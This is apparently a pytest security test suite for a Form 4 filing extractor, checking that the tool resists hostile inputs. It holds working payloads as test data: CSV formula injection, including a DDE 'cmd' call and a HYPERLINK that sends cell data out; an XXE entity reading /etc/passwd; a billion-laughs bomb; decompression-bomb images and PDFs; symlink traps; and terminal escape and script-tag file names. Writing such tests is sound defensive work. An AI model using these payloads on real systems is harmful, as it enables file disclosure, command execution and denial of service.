"""Hostile inputs and outputs: each attack is built here as a small file or a plain command line.

Nothing is written outside ``--output``, CSV cells never run in a spreadsheet, links are not
followed out of the folders the user named, every bad file is one line and never a traceback.
"""

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from form4.errors import OutputError
from form4.io.tabular import to_csv
from form4.run.batch import collect_inputs, read_input
from form4.run.confine import write_atomic
from form4.schema import Issuer, NonDerivativeTransaction, Record, ReportingOwner

from conftest import ROOT  # noqa: E402  (the repository, defined once)

SEED = ROOT / "samples" / "000_46eb1dd4f8015172.txt"


def form4(*args, cwd: Path | None = None, env: dict | None = None):
    return subprocess.run(
        [sys.executable, "-m", "extractor", *map(str, args)],
        capture_output=True,
        cwd=cwd or ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})},
    )


def _lines(out) -> list[str]:
    return out.stderr.decode("utf-8", "replace").strip().splitlines()


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


# ---------------------------------------------------------------- confined writes
def test_a_planted_symlink_at_the_temporary_name_is_not_followed(tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    (out / f".a.json.{os.getpid()}.tmp").symlink_to(outside / "stolen.json")
    write_atomic(out / "a.json", '{"a": 1}\n')
    assert _files(outside) == []
    assert not (out / "a.json").is_symlink() and json.loads((out / "a.json").read_text()) == {"a": 1}


def test_a_symlink_at_the_output_name_is_refused_as_an_output_error(tmp_path):
    (tmp_path / "out").mkdir()
    target = tmp_path / "elsewhere.json"
    target.write_text("keep")
    (tmp_path / "out" / "a.json").symlink_to(target)
    with pytest.raises(OutputError, match="symbolic link"):
        write_atomic(tmp_path / "out" / "a.json", "{}\n")
    assert target.read_text() == "keep" and (tmp_path / "out" / "a.json").is_symlink()


def test_a_symlinked_subfolder_of_the_output_folder_receives_nothing(tmp_path):
    (tmp_path / "in" / "sub").mkdir(parents=True)
    (tmp_path / "in" / "top.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "sub" / "inner.txt").write_text(SEED.read_text())
    (tmp_path / "out").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out" / "sub").symlink_to(tmp_path / "elsewhere")
    out = form4("extract", "--no-model", tmp_path / "in", "-o", f"{tmp_path / 'out'}/")
    lines = _lines(out)
    assert out.returncode == 1 and _files(tmp_path / "elsewhere") == []
    assert [line for line in lines if "E023" in line and "inner" in line and "symbolic link" in line]
    assert (tmp_path / "out" / "top.json").is_file() and "1 done, 1 failed (E023: 1), 0 skipped" in lines[-1]


def test_the_summary_file_is_not_written_through_a_symlink(tmp_path):
    (tmp_path / "secret").write_text("keep")
    (tmp_path / "summary.json").symlink_to(tmp_path / "secret")
    out = form4("extract", "--no-model", SEED, "--summary", tmp_path / "summary.json")
    assert (tmp_path / "secret").read_text() == "keep"
    assert out.returncode == 2 and any("E023" in line for line in _lines(out)) and "Traceback" not in out.stderr.decode()


# ---------------------------------------------------------------- input links
def _linked_inputs(tmp_path: Path) -> Path:
    (tmp_path / "in").mkdir()
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "real.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "alias.txt").symlink_to(tmp_path / "in" / "real.txt")
    (tmp_path / "in" / "leak.txt").symlink_to(tmp_path / "private" / "secret.txt")
    return tmp_path / "in"


def test_an_input_link_that_leads_out_of_the_input_folder_is_refused(tmp_path):
    folder = _linked_inputs(tmp_path)
    items = {item.relative.name: item for item in collect_inputs([str(folder)])}
    assert read_input(items["alias.txt"]).text.startswith(SEED.read_text()[:50])
    from form4.errors import Form4Error

    with pytest.raises(Form4Error) as caught:
        read_input(items["leak.txt"])
    assert caught.value.code == "E026" and "--follow-links" in caught.value.one_line()


def test_follow_links_reads_links_out_of_the_input_folder(tmp_path):
    folder = _linked_inputs(tmp_path)
    refused = form4("extract", "--no-model", folder, "-o", f"{tmp_path / 'a'}/")
    followed = form4("extract", "--no-model", "--follow-links", folder, "-o", f"{tmp_path / 'b'}/")
    assert refused.returncode == 1 and "2 done, 1 failed (E026: 1)" in _lines(refused)[-1]
    assert followed.returncode == 0 and _files(tmp_path / "b") == ["alias.json", "leak.json", "real.json"]


# ---------------------------------------------------------------- spreadsheet-safe CSV
FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")


def _formula_record() -> Record:
    return Record(
        source=FORMULAS[3] + ".txt",
        issuer=Issuer(name=FORMULAS[0], trading_symbol="ACME"),
        reporting_owners=(ReportingOwner(name=FORMULAS[1], officer_title=FORMULAS[4], other_text=FORMULAS[5]),),
        non_derivative_transactions=(NonDerivativeTransaction(security_title=FORMULAS[2], nature_of_ownership=FORMULAS[6], shares=5.0),),
    )


def test_csv_text_cells_a_spreadsheet_would_run_get_a_leading_quote():
    import pandas as pd

    frame = pd.read_csv(io.StringIO(to_csv([_formula_record()])), dtype=str, keep_default_na=False)
    row = frame.iloc[0]
    cells = [row[c] for c in ("issuer_name", "reporting_owners", "security_title", "source", "owner_officer_title", "owner_other_text", "nature_of_ownership")]
    assert all(cell.startswith("'") for cell in cells)
    assert row["issuer_name"] == "'" + FORMULAS[0] and row["issuer_trading_symbol"] == "ACME" and row["shares"] == "5"


def test_csv_raw_keeps_the_cells_as_read():
    import pandas as pd

    frame = pd.read_csv(io.StringIO(to_csv([_formula_record()], raw=True)), dtype=str, keep_default_na=False)
    assert frame.iloc[0]["issuer_name"] == FORMULAS[0] and frame.iloc[0]["security_title"] == FORMULAS[2]


def test_a_file_name_that_is_a_formula_is_quoted_in_the_csv_unless_csv_raw(tmp_path):
    (tmp_path / "=HYPERLINK(1).txt").write_text(SEED.read_text())
    safe = form4("extract", "--no-model", "=HYPERLINK(1).txt", "--format", "csv", cwd=tmp_path)
    raw = form4("extract", "--no-model", "=HYPERLINK(1).txt", "--format", "csv", "--csv-raw", cwd=tmp_path)
    assert safe.returncode == 0 and raw.returncode == 0, safe.stderr
    assert safe.stdout.decode().splitlines()[1].startswith("'=HYPERLINK(1).txt")
    assert raw.stdout.decode().splitlines()[1].startswith("=HYPERLINK(1).txt")


# ---------------------------------------------------------------- limits before decoding
def _pdf(pages: list[tuple[float, float]], text: str | None = None) -> bytes:
    """A PDF of blank pages of (width, height) points, or with ``text`` printed on each."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", ""]
    kids = []
    for width, height in pages:
        content = f"BT /F1 12 Tf 20 20 Td ({text}) Tj ET" if text else ""
        objects.append(f"<< /Length {len(content)} >>\nstream\n{content}\nendstream")
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {width} {height}] /Contents {len(objects)} 0 R "
                       "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>")
        kids.append(f"{len(objects)} 0 R")
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(kids)} >>"
    out, offsets = b"%PDF-1.4\n", []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()


def _tiff(frames: list[tuple[int, int]]) -> bytes:
    """A little-endian TIFF of 8-bit grey frames of (width, height) pixels, white. Every frame
    shares one strip, the size of the first frame: a larger one is truncated, whatever its size
    says (a reader must check the size before decoding)."""
    import struct

    out = bytearray(b"II*\x00\x00\x00\x00\x00")
    strip, size = len(out), frames[0][0] * frames[0][1]
    out += b"\xff" * size
    previous = 4
    for width, height in frames:
        ifd = len(out)
        struct.pack_into("<I", out, previous, ifd)
        tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, strip),
                (277, 3, 1), (278, 4, height), (279, 4, min(size, width * height))]
        out += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        previous = len(out)
        out += b"\x00\x00\x00\x00"
    return bytes(out)


def _png_header(width: int, height: int) -> bytes:
    """A PNG that says it is ``width`` x ``height`` and holds no pixel data."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


def _code(tmp_path: Path, name: str, data: bytes) -> str:
    from form4.run.batch import extract_input
    from form4.run.items import Input

    (tmp_path / name).write_bytes(data)
    out = extract_input(RULES, Input(tmp_path / name, Path(name), str(tmp_path / name)))
    return out.code if hasattr(out, "code") else "ok"


from form4.run.pipeline import RULES_ONLY as RULES  # noqa: E402


def test_a_pdf_page_150_inches_a_side_is_refused_before_it_is_rasterised(tmp_path):
    (tmp_path / "big.pdf").write_bytes(_pdf([(10800, 10800)]))
    assert len(_pdf([(10800, 10800)])) < 700
    out = form4("extract", "--no-model", tmp_path / "big.pdf")
    [line] = _lines(out)
    assert "error E027" in line and "150 x 150 inches" in line and out.returncode == 1


def test_a_pdf_of_more_than_50_pages_is_refused(tmp_path):
    assert _code(tmp_path, "long.pdf", _pdf([(72, 72)] * 51)) == "E027"


def test_a_tiff_of_500_frames_is_refused_before_its_frames_are_decoded(tmp_path):
    assert _code(tmp_path, "frames.tif", _tiff([(32, 32)] * 500)) == "E027"


def test_a_30000_pixel_square_png_is_an_input_error_not_an_internal_error(tmp_path):
    assert _code(tmp_path, "huge.png", _png_header(30000, 30000)) == "E027"


def test_image_frames_are_read_one_at_a_time(tmp_path, monkeypatch):
    """The first frame is read before the second (too large) is looked at."""
    from form4.errors import InputTooLargeError
    from form4.io import inputs

    read = []
    monkeypatch.setattr(inputs, "ocr_image", lambda image, dpi, source=None: read.append(image.shape) or "text")
    with pytest.raises(InputTooLargeError):
        inputs.read_image(_tiff([(850, 1100), (30000, 30000)]), "two.tif")
    assert read == [(3300, 2550)]


def _report_limits(settings, job):
    """In a worker: the address space and CPU limits (KiB, s) a tool it starts gets, and a large map."""
    import numpy as np

    limits = subprocess.run(["sh", "-c", "ulimit -v; ulimit -t"], capture_output=True, text=True).stdout.split()
    if job == "map":
        np.empty(4 << 30, dtype=np.uint8)  # 4 GiB of address space, never touched
    return limits


def test_a_worker_and_the_tools_it_starts_run_under_an_address_space_and_cpu_limit():
    from form4.run.workers import WorkerPool

    from form4.run.guard import MIN_ADDRESS_SPACE, ROOM_ABOVE_START, _mapped_bytes

    with WorkerPool(_report_limits, None, 1, timeout=30) as pool:
        [(_, (space, cpu), _)] = list(pool.imap_unordered(["limits"]))
    bound = max(MIN_ADDRESS_SPACE, _mapped_bytes() + ROOM_ABOVE_START) * 1.1  # this process's size: the worker's at its fork
    assert space != "unlimited" and int(space) * 1024 <= bound and cpu != "unlimited" and int(cpu) <= 60, (space, cpu)


def test_a_worker_out_of_memory_is_an_input_error_not_an_internal_error():
    from form4.run.workers import WorkerPool

    with WorkerPool(_report_limits, None, 1, timeout=30) as pool:
        [(_, err, _)] = list(pool.imap_unordered(["map"]))
    assert err.code == "E027" and "more memory than a worker may use" in err.one_line()


# ---------------------------------------------------------------- timeouts that clean up
def _leave_work_behind(settings, job):
    """In a worker: a temporary folder with a page in it and a tool still running, then hang or die."""
    import signal
    import tempfile
    import time

    note, how = job
    folder = tempfile.mkdtemp(prefix="form4-ocr-")
    Path(folder, "page.pgm").write_bytes(b"P5\n1 1\n255\n\x00")
    tool = subprocess.Popen(["sleep", "300"])
    Path(note).write_text(f"{folder}\n{tool.pid}\n")
    if how == "die":
        os.kill(os.getpid(), signal.SIGKILL)
    tool.wait()


def _gone(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return True
    return state in ("Z", "X")  # killed, waiting for init to reap it


@pytest.mark.parametrize("how", ["hang", "die"])
def test_a_stopped_worker_takes_its_tools_and_temporary_files_with_it(tmp_path, how):
    import time

    from form4.run.workers import WorkerPool

    note = tmp_path / "note"
    with WorkerPool(_leave_work_behind, None, 1, timeout=3) as pool:
        [(_, err, _)] = list(pool.imap_unordered([(str(note), how)]))
    folder, pid = note.read_text().split()
    assert err.code == ("E021" if how == "hang" else "E024")
    for _ in range(50):  # the kill is sent; the kernel takes a moment to end the process
        if _gone(int(pid)):
            break
        time.sleep(0.1)
    assert _gone(int(pid)) and not Path(folder).exists()


_TOOL_IN_A_WORKER = """
import sys
from extractor.io.inputs import _run
from extractor.run.workers import WorkerPool

def work(settings, note):
    _run("sh", ["-c", f"echo $$ > {note}.tmp && mv {note}.tmp {note} && exec sleep 300"], None)

with WorkerPool(work, None, 1, timeout=120) as pool:
    list(pool.imap_unordered([sys.argv[1]]))
"""


def _wait_for(check, tries: int = 100):
    import time

    for _ in range(tries):  # the kernel takes a moment to end a process, the batch to start one
        if check():
            return True
        time.sleep(0.1)
    return False


def test_a_tool_a_worker_started_dies_with_it_even_when_the_batch_is_killed(tmp_path):
    import signal

    note = tmp_path / "tool.pid"
    batch = subprocess.Popen([sys.executable, "-c", _TOOL_IN_A_WORKER, str(note)], cwd=ROOT,
                             env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        assert _wait_for(note.exists, 300), "the tool never started"
        tool = int(note.read_text())
        batch.send_signal(signal.SIGKILL)  # nothing of the batch runs after this: the kernel must end the rest
        batch.wait(timeout=30)
        assert _wait_for(lambda: _gone(tool)), "the tool ran on after its batch was killed"
    finally:
        batch.kill()
        if note.exists() and not _gone(int(note.read_text())):
            os.kill(int(note.read_text()), signal.SIGKILL)


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        found += [int(child) for child in (task / "children").read_text().split()]
    return found


def test_a_batch_stopped_by_a_kill_takes_its_workers_and_their_temporary_folders_along(tmp_path):
    """SIGTERM while a worker waits on its input (a named pipe nobody writes: it never ends)."""
    import signal

    (tmp_path / "tmp").mkdir()
    os.mkfifo(tmp_path / "never.txt")
    batch = subprocess.Popen([sys.executable, "-m", "extractor", "extract", "--no-model", tmp_path / "never.txt"],
                             cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path / "tmp")},
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert _wait_for(lambda: any((tmp_path / "tmp").iterdir()) and _children(batch.pid), 300), "no worker started"
        workers = _children(batch.pid)
        batch.send_signal(signal.SIGTERM)
        _, err = batch.communicate(timeout=60)
    finally:
        batch.kill()
    assert batch.returncode == 130 and "Traceback" not in err.decode(), err.decode()
    assert all(_gone(pid) for pid in workers) and list((tmp_path / "tmp").iterdir()) == []


# ---------------------------------------------------------------- safe messages
FORGED = "x\n5 done, 0 failed, 0 skipped\n.txt"
ANSI = "\x1b[2J\x1b]0;owned\x07\u202eevil.txt"


def test_a_newline_in_a_file_name_cannot_forge_a_line_of_the_batch(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / FORGED).write_bytes(b"")
    (tmp_path / "in" / ANSI).write_bytes(b"")
    (tmp_path / "in" / "good.txt").write_text(SEED.read_text())
    out = form4("extract", "--no-model", tmp_path / "in", "-o", f"{tmp_path / 'out'}/", "--summary", tmp_path / "summary.json")
    err = out.stderr.decode("utf-8", "replace")
    lines = err.strip().splitlines()
    assert len(lines) == 3 and lines[-1] == "1 done, 2 failed (E001: 2), 0 skipped"
    assert "\\n5 done, 0 failed, 0 skipped\\n.txt: error E001" in err
    assert "\x1b" not in err and "\u202e" not in err and "\\x1b[2J\\x1b]0;owned\\x07\\u202eevil.txt" in err
    sources = [f["source"] for f in json.loads((tmp_path / "summary.json").read_text())["failures"]]
    assert all("\n" not in s and "\x1b" not in s for s in sources)


def test_a_file_name_that_is_not_utf8_is_one_escaped_line(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(SEED.read_text())
    with open(os.path.join(os.fsencode(folder), b"bad\xff\xfe.txt"), "wb"):
        pass
    out = form4("extract", "--no-model", folder, "-o", f"{tmp_path / 'out'}/")
    err = out.stderr.decode("utf-8", "replace")
    assert "Traceback" not in err and "Logging error" not in err
    assert any(line.endswith("bad\\xff\\xfe.txt: error E001: the input is empty; pass the text of a Form 4 filing") for line in err.splitlines())


def test_an_error_line_is_capped_however_long_its_message():
    from form4.errors import InputUnreadableError

    line = InputUnreadableError("cannot read it: " + "A" * 50_000_000, "x" * 10_000 + ".txt").one_line()
    assert len(line) < 1200 and "error E022" in line and "(50,000,016 characters)" in line


# ---------------------------------------------------------------- the review page
SECOND = ROOT / "samples" / "001_d8ce4ece6e55602e.txt"
CSP = """<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">"""


def _pages(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text(encoding="utf-8") for p in sorted(folder.rglob("*.html"))}


def test_the_review_page_shows_the_text_the_worker_read_not_the_file_read_again(tmp_path):
    from form4.cli.reports import write_reports
    from form4.run.batch import run_batch

    (tmp_path / "a.txt").write_text(SEED.read_text())
    items = collect_inputs([str(tmp_path / "a.txt")])
    result = run_batch(items, RULES, workers=1, timeout=30, keep_texts=True)
    (tmp_path / "a.txt").write_text("changed after the batch: a second read would show this")
    assert write_reports(result, tmp_path / "page.html", several=False, threshold=0.9) == 0
    page = (tmp_path / "page.html").read_text()
    assert "QLYS" in page and "changed after the batch" not in page and CSP in page


def test_review_pages_are_named_like_the_outputs_one_per_filing(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "a.text").write_text(SEED.read_text())
    (tmp_path / "in" / "two.txt").write_text(SEED.read_text() + "\n" + SECOND.read_text())
    out = form4("extract", "--no-model", tmp_path / "in", "--report", tmp_path / "pages")
    assert out.returncode == 0, out.stderr
    assert list(_pages(tmp_path / "pages")) == ["a.text.html", "a.txt.html", "two#2.html", "two.html"]


def test_a_report_folder_that_exists_takes_the_page_of_one_input(tmp_path):
    (tmp_path / "pages").mkdir()
    out = form4("extract", "--no-model", SEED, "--report", tmp_path / "pages", "--summary", tmp_path / "s.json")
    assert out.returncode == 0 and "Traceback" not in out.stderr.decode()
    assert list(_pages(tmp_path / "pages")) == [SEED.stem + ".html"] and (tmp_path / "s.json").is_file()


def test_odd_file_names_get_their_records_and_review_pages(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    with open(os.path.join(os.fsencode(folder), b"bad\xff.txt"), "wb") as handle:
        handle.write(SEED.read_bytes())
    (folder / "<script>alert(1)<\\script>\n.txt").write_text(SEED.read_text())
    out = form4("extract", "--no-model", folder, "-o", f"{tmp_path / 'out'}/", "--report", tmp_path / "pages")
    err = out.stderr.decode("utf-8", "replace")
    assert out.returncode == 0 and "Traceback" not in err, err
    assert len(list((tmp_path / "out").iterdir())) == 2
    pages = _pages(tmp_path / "pages")
    assert len(pages) == 2 and all(CSP in page and "<script>" not in page for page in pages.values())


def test_a_review_page_never_shows_a_file_a_link_leads_to_outside_the_input_folder(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.txt").write_text(SEED.read_text().replace("OMB APPROVAL", "OMB APPROVAL SECRET-7731"))
    (tmp_path / "in" / "leak.txt").symlink_to(tmp_path / "private" / "secret.txt")
    (tmp_path / "in" / "good.txt").write_text(SEED.read_text())
    out = form4("extract", "--no-model", tmp_path / "in", "--report", tmp_path / "pages")
    assert out.returncode == 1 and any("E026" in line for line in _lines(out))
    assert "SECRET-7731" not in "".join(_pages(tmp_path / "pages").values())


# ---------------------------------------------------------------- hostile gold, prediction, annotation and model files
HOSTILE_JSON = {
    "wrong-types.json": b'{"issuer": "not an object", "reporting_owners": 5}',
    "a-list.json": b"[1, 2, 3]",
    "deep.json": b"[" * 100_000 + b"]" * 100_000,
    "not-utf8.json": b'{"issuer": {"name": "\xff\xfe"}}',
    "not-json.json": b"{'issuer': None}",
}


def _score_folder(tmp_path: Path, kind: str) -> tuple[Path, Path]:
    gold, pred = tmp_path / "gold", tmp_path / "pred"
    for folder in (gold, pred):
        folder.mkdir()
    for name in ("000_46eb1dd4f8015172", "001_d8ce4ece6e55602e"):
        (gold / f"{name}.json").write_bytes((ROOT / "annotations" / "gold" / f"{name}.json").read_bytes())
    out = form4("extract", "--no-model", SEED, "-o", pred / f"{SEED.stem}.json")
    assert out.returncode == 0, out.stderr
    for name, data in HOSTILE_JSON.items() if kind else ():  # kind "": good files only
        (gold if kind == "gold" else pred).joinpath(name).write_bytes(data)
    return gold, pred


@pytest.mark.parametrize("kind", ["gold", "pred"])
def test_score_skips_and_counts_each_bad_gold_or_predicted_file_in_one_line(tmp_path, kind):
    gold, pred = _score_folder(tmp_path, kind)
    out = form4("score", "--gold", gold, "--pred", pred, "--json")
    err = out.stderr.decode()
    assert "Traceback" not in err and out.returncode == 1, err
    lines = _lines(out)
    code = "E006" if kind == "gold" else "E018"
    assert sorted(line.split(":")[0].rsplit("/", 1)[-1] for line in lines if code in line) == sorted(HOSTILE_JSON)
    assert "5 files skipped (not scored)" in err and json.loads(out.stdout)["documents"] == 1


def _export(tmp_path: Path, tasks) -> Path:
    path = tmp_path / "export.json"
    path.write_text(tasks if isinstance(tasks, str) else json.dumps(tasks))
    return path


GOOD_TASK = {"id": 7, "data": {"text": "Doe Jane bought"}, "annotations": [{"result": [
    {"id": "r", "type": "labels", "value": {"start": 0, "end": 8, "labels": ["OWNER_NAME"], "text": "Doe Jane"}}]}]}


@pytest.mark.parametrize("bad", [
    {"id": 1, "data": 5},                                                                      # wrong type
    {"id": 2, "data": {"text": "x y"}, "annotations": [{"result": [{"type": "labels", "value": {"start": "a", "end": [], "labels": ["X"]}}]}]},
    {"id": 3, "data": {"text": "x y"}, "annotations": [{"result": [{"type": "labels", "value": {"start": 1e400, "end": 2, "labels": ["X"]}}]}]},
    "deep",
])
def test_a_hostile_annotation_task_is_one_line_and_the_good_ones_are_imported(tmp_path, bad):
    tasks = [GOOD_TASK, bad] if bad != "deep" else None
    path = _export(tmp_path, json.dumps(tasks) if tasks else "[" * 100_000 + "]" * 100_000)
    out = form4("annotations", "import", path, "--output", tmp_path / "imported")
    err = out.stderr.decode()
    assert "Traceback" not in err and out.returncode in (1, 2), err
    lines = _lines(out)
    assert len(lines) == 1 and ("E032" in lines[0] if tasks else "E031" in lines[0])
    if tasks:
        assert out.stdout.decode().startswith("1 of 2 tasks")


def test_an_annotation_error_shows_a_50_mb_token_cut_to_a_line(tmp_path):
    token = "A" * 50_000_000
    task = {"id": 1, "data": {"text": token}, "annotations": [{"result": [{"type": "labels", "value": {"start": 0, "end": 3, "labels": ["OWNER_NAME"]}}]}]}
    out = form4("annotations", "import", _export(tmp_path, [task]), "--output", tmp_path / "imported")
    assert out.returncode == 1 and all(len(line) < 2000 for line in _lines(out)) and "E032" in _lines(out)[0]


def test_ansi_escapes_in_an_annotation_file_are_not_printed_raw(tmp_path):
    task = {"id": "\x1b[2J\x1b]0;owned\x07", "data": {"text": "x y"}, "annotations": [{"result": [{"type": "labels", "value": {"start": 0, "end": 1, "labels": ["NOPE"]}}]}]}
    out = form4("annotations", "import", _export(tmp_path, [task]), "--output", tmp_path / "imported")
    assert "\x1b" not in out.stderr.decode() and "\\x1b[2J" in out.stderr.decode()


def _model(tmp_path: Path, **files: bytes) -> Path:
    import shutil

    folder = tmp_path / "model"
    shutil.copytree(ROOT / "models" / "form4-ner", folder)
    for name, data in files.items():
        (folder / name.replace("_", ".")).write_bytes(data)
    return folder


@pytest.mark.parametrize("files", [
    {"config_cfg": b"[nlp]\nlang = ${x.a}\n[x]\na = 5\n[[["},
    {"config_cfg": "\n".join(["[vars]", 'v0 = "ab"', *(f'v{i} = "${{vars.v{i - 1}}}${{vars.v{i - 1}}}"' for i in range(1, 30))]).encode()
     + b"\n\n" + (ROOT / "models" / "form4-ner" / "config.cfg").read_bytes()},  # each value doubles the one before
    {"calibration_json": b"this is not json"},
    {"arbitration_json": b'{"model_wins": 5}'},
])
def test_a_model_folder_that_cannot_be_loaded_is_one_line(tmp_path, files):
    out = form4("extract", "--model", _model(tmp_path, **files), SEED)
    lines = _lines(out)
    assert out.returncode == 2 and len(lines) == 1 and "error E008" in lines[0] and "Traceback" not in out.stderr.decode()


def test_form4_model_naming_a_folder_with_no_pipeline_is_an_error_not_ignored(tmp_path):
    (tmp_path / "empty").mkdir()
    out = form4("extract", SEED, env={"FORM4_MODEL": str(tmp_path / "empty")})
    [line] = _lines(out)
    assert out.returncode == 2 and "error E008" in line and "FORM4_MODEL" in line and out.stdout == b""


def test_a_converter_name_from_a_file_name_is_escaped_in_the_score_table(tmp_path):
    gold, pred = _score_folder(tmp_path, "")
    (pred / f"{SEED.stem}.json").rename(pred / f"{SEED.stem}.\x1b]0;owned\x07\x1b[2J.json")
    out = form4("score", "--gold", gold, "--pred", pred, "--no-fields")
    table = out.stdout.decode()
    assert out.returncode == 0 and "\x1b" not in table and "\\x1b]0;owned\\x07\\x1b[2J" in table, out.stderr


GOLD_XML = {
    "xxe.xml": '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
               "<ownershipDocument><documentType>4</documentType><issuer><issuerName>&x;</issuerName></issuer></ownershipDocument>",
    "laughs.xml": '<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a0 "aaaaaaaaaa">'
                  + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>\n"
                  "<ownershipDocument><documentType>4</documentType><issuer><issuerName>&a9;</issuerName></issuer></ownershipDocument>",
    "inner-doctype.xml": '<ownershipDocument><!DOCTYPE x [<!ENTITY a "b">]><documentType>4</documentType></ownershipDocument>',
}


def test_a_gold_xml_file_with_entities_is_never_expanded_but_skipped_and_counted(tmp_path):
    gold, pred = _score_folder(tmp_path, "")
    for name, text in GOLD_XML.items():
        (gold / name).write_text(text)
    out = form4("score", "--gold", gold, "--pred", pred, "--json")
    err = out.stderr.decode()
    assert "Traceback" not in err and out.returncode == 1, err
    bad = sorted(line.split(":")[0].rsplit("/", 1)[-1] for line in _lines(out) if "error E007" in line)
    assert bad == sorted(GOLD_XML) and "3 files skipped (not scored)" in err
    assert "root:" not in err + out.stdout.decode() and "aaaaaaaaaa" not in err and json.loads(out.stdout)["documents"] == 1


class _Scans:
    """A compiled pattern that records where each search starts."""

    def __init__(self, pattern, starts: list):
        self.pattern, self.starts = pattern, starts

    def search(self, text, pos=0):
        self.starts.append(pos)
        return self.pattern.search(text, pos)


def test_gold_xml_is_scanned_in_linear_time(monkeypatch):
    """400 KB of unclosed opening tags took minutes (a pattern tried from each of them scans to the
    end): every search now starts where the one before ended, so each character is read once."""
    from form4.io import xml_reader

    opens, closes = [], []
    monkeypatch.setattr(xml_reader, "_DOC_OPEN", _Scans(xml_reader._DOC_OPEN, opens))
    monkeypatch.setattr(xml_reader, "_DOC_CLOSE", _Scans(xml_reader._DOC_CLOSE, closes))
    doc = "<ownershipDocument><x/></ownershipDocument>"
    text = doc + "<ownershipDocument>" * 20_000 + doc + " <ownershipDocument>" * 20_000
    assert xml_reader.find_ownership_xml(text) == [doc, text[len(doc):len(text) - 20 * 20_000]]
    assert len(opens) == 3 and len(closes) == 3 and opens == sorted(opens) and closes == sorted(closes)


# ---------------------------------------------------------------- all of them in one batch
def test_the_hostile_batch_writes_every_good_record_one_line_per_bad_input_and_nothing_outside(tmp_path):
    inputs, out, elsewhere = tmp_path / "in", tmp_path / "out", tmp_path / "elsewhere"
    for folder in (inputs / "sub", out, elsewhere, tmp_path / "private"):
        folder.mkdir(parents=True)
    good = {"good.txt": SEED.read_text(), "sub/inner.txt": SEED.read_text(), "=HYPERLINK(1).txt": SECOND.read_text()}
    bad = {
        "big.pdf": _pdf([(10800, 10800)]), "long.pdf": _pdf([(72, 72)] * 51), "frames.tif": _tiff([(32, 32)] * 500),
        "huge.png": _png_header(30000, 30000), FORGED: b"", ANSI: b"\x00\x01binary",
    }
    for name, text in good.items():
        (inputs / name).write_text(text)
    for name, data in bad.items():
        (inputs / name).write_bytes(data)
    (tmp_path / "private" / "secret.txt").write_text(SEED.read_text())
    (inputs / "leak.txt").symlink_to(tmp_path / "private" / "secret.txt")
    (out / "sub").symlink_to(elsewhere)  # a planted link: sub/inner's output would land outside
    (out / "good.json").symlink_to(elsewhere / "stolen.json")
    before = {p for p in tmp_path.rglob("*") if not str(p).startswith(str(out))}
    run = form4("extract", "--no-model", inputs, "-o", f"{out}/", "--format", "json", "--summary", out / "summary.json")
    err = run.stderr.decode("utf-8", "replace")
    lines = err.strip().splitlines()
    assert "Traceback" not in err and "\x1b" not in err and run.returncode == 1
    assert lines[-1] == "1 done, 9 failed (E001: 1, E002: 1, E023: 2, E026: 1, E027: 4), 0 skipped"
    assert len(lines) == 10  # one line per bad input, and the summary
    assert _files(elsewhere) == [] and {p for p in tmp_path.rglob("*") if not str(p).startswith(str(out))} == before
    assert sorted(p.name for p in out.iterdir() if not p.is_symlink()) == ["=HYPERLINK(1).json", "summary.json"]
